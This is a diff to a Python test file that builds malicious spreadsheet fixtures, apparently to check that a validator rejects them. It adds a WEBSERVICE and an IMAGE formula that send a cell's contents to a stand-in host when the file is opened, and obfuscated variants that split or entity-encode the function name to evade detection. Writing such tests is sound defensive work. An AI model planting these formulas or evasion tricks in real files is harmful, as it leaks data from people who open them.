@@ -103,10 +103,24 @@ def with_part(name: str, data: bytes) -> Callable[[], bytes]:
     return made
 
 
-def calling() -> bytes:
-    book = openpyxl.load_workbook(io.BytesIO(form()))
-    book["Instruktion"]["A2"] = '=WEBSERVICE("https://example.org/"&Tidrapport!B4)'
-    return saved(book)
+def calling(formula: str) -> Callable[[], bytes]:
+    """The form with a formula that sends a name when the file is opened."""
+
+    def made() -> bytes:
+        book = openpyxl.load_workbook(io.BytesIO(form()))
+        book["Instruktion"]["A2"] = f'={formula}("https://example.org/"&Tidrapport!B4)'
+        return saved(book)
+
+    return made
+
+
+def hidden(formula: bytes) -> Callable[[], bytes]:
+    """The same as the XML of a sheet says it in other words."""
+    sheet = (
+        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+        b'<row r="1"><c r="A1"><f>' + formula + b'("x")</f></c></row></sheetData></worksheet>'
+    )
+    return with_part("xl/worksheets/sheet2.xml", sheet)
 
 
 RELATION = (
@@ -124,7 +138,19 @@ DALIGA: dict[str, tuple[Callable[[], bytes], str]] = {
     "a picture from elsewhere": (
         with_part("xl/worksheets/_rels/sheet1.xml.rels", RELATION), LANKAR,
     ),
-    "a formula that sends": (calling, LANKAR),
+    "the same in other case": (
+        with_part("xl/worksheets/_rels/sheet1.xml.RELS", RELATION.replace(b"Ext", b"ext")), LANKAR,
+    ),
+    "the same without a type": (
+        with_part("xl/worksheets/_rels/sheet1.xml.rels",
+                  RELATION.replace(b'Type="http://x/image"', b"")), LANKAR,
+    ),
+    "no UTF-8": (with_part("xl/worksheets/_rels/sheet1.xml.rels", b'<a b="\xff"/>'), "ESF040"),
+    "an add-in": (with_part("xl/webextensions/webextension1.xml", b"<a/>"), LANKAR),
+    "a formula that sends": (calling("WEBSERVICE"), LANKAR),
+    "a picture that sends": (calling("_xlfn.IMAGE"), LANKAR),
+    "a hidden formula that sends": (hidden(b"WEBSERV&#73;CE"), LANKAR),
+    "a parted formula that sends": (hidden(b"WEBSERV<!-- -->ICE"), LANKAR),
     "no workbook": (with_part("xl/workbook.xml", b"<workbook/>"), "ESF04"),
 }  # fmt: skip
 
